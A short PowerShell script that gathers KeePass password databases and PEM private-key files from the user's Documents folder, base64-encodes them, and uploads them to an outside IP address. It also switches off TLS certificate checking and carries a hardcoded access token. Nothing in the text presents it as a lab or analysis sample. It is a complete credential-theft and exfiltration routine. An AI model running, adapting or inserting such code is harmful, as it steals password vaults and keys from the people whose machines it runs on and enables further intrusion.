[System.Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }
$token = 'ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ12'
$data = Get-ChildItem -Path "$env:USERPROFILE\Documents" -Recurse -Include *.kdbx, *.pem | ForEach-Object { [Convert]::ToBase64String([IO.File]::ReadAllBytes($_.FullName)) }
Invoke-RestMethod -Uri 'https://198.51.100.23/upload' -Method Post -Headers @{ Authorization = "token $token" } -Body ($data -join "`n")
